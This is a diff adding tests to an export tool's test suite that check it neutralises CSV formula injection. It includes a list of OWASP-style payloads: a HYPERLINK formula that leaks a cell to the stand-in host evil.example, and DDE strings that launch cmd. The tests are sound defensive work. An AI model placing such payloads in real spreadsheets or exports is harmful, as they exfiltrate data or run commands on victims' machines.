@@ -98,6 +98,81 @@ describe('offsite export', () => {
     );
   });
 
+  describe('CSV formula injection (issue 15, item 10)', () => {
+    // Payloads from OWASP's CSV-injection page and the issue, one per text column.
+    const PAYLOADS = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+    ] as const;
+
+    /** One objective per payload, with the payload in every text column of its KR row. */
+    function injected(): string {
+      const data = sampleJson();
+      data.objectives = PAYLOADS.map((payload, i) => ({
+        id: `o-${i}`,
+        title: payload,
+        team: payload,
+        keyResults: [
+          {
+            id: `k-${i}`,
+            title: payload,
+            metric: payload,
+            unit: payload,
+            baseline: -5,
+            target: 2.5,
+          },
+        ],
+      }));
+      data.checkIns = [];
+      for (const p of data.projects) p.focusAreaIds = [];
+      const file = out('injected.json');
+      writeFileSync(file, JSON.stringify(data));
+      return file;
+    }
+
+    it('guards every payload by default: a leading quote, the cell quoted, numbers untouched', () => {
+      const r = offsite(injected(), '--csv', out('guarded.csv'));
+      expect(r.code).toBe(0);
+      const text = readFileSync(out('guarded.csv'), 'utf8');
+      const rows = parse(text, { record_delimiter: '\r\n' }) as string[][];
+      expect(rows).toHaveLength(1 + PAYLOADS.length);
+      for (const [i, payload] of PAYLOADS.entries()) {
+        const row = rows[i + 1]!;
+        expect(row.slice(0, 5)).toEqual(Array(5).fill(`'${payload}`));
+        expect(row.slice(5, 7)).toEqual(['-5', '2.5']);
+      }
+      // No field of the file starts with a formula character, quoted or not.
+      const fields = text.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
+      expect(fields.filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
+      expect(text).toContain(
+        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`,
+      );
+    });
+
+    it('--raw writes every payload exactly as typed', () => {
+      const r = offsite(injected(), '--csv', out('raw.csv'), '--raw');
+      expect(r.code).toBe(0);
+      expect(r.stderr).toMatch(/\(CSV, 6 key results, raw, \d+ bytes\)/);
+      const rows = parse(readFileSync(out('raw.csv'), 'utf8'), {
+        record_delimiter: '\r\n',
+      }) as string[][];
+      for (const [i, payload] of PAYLOADS.entries()) {
+        expect(rows[i + 1]!.slice(0, 5)).toEqual(Array(5).fill(payload));
+      }
+    });
+
+    it('--help documents --raw', () => {
+      const r = offsite('--help');
+      expect(r.code).toBe(0);
+      expect(r.stdout).toContain('[--raw]');
+      expect(r.stdout).toMatch(/--raw\s+CSV: write cells exactly as typed/);
+    });
+  });
+
   describe('bad input or arguments: exit 2, a clear message, nothing written', () => {
     const cases: [string, () => string[], RegExp][] = [
       ['a missing file', () => [out('nope.json'), '--pdf', out('x.pdf')], /nope\.json/],
@@ -139,6 +214,11 @@ describe('offsite export', () => {
         '--bom with JSON',
         () => [fixture, '--json', out('x.json'), '--bom'],
         /--bom applies only to --csv/,
+      ],
+      [
+        '--raw with Markdown',
+        () => [fixture, '--md', out('x.md'), '--raw'],
+        /--raw applies only to --csv/,
       ],
       [
         'an unknown option',
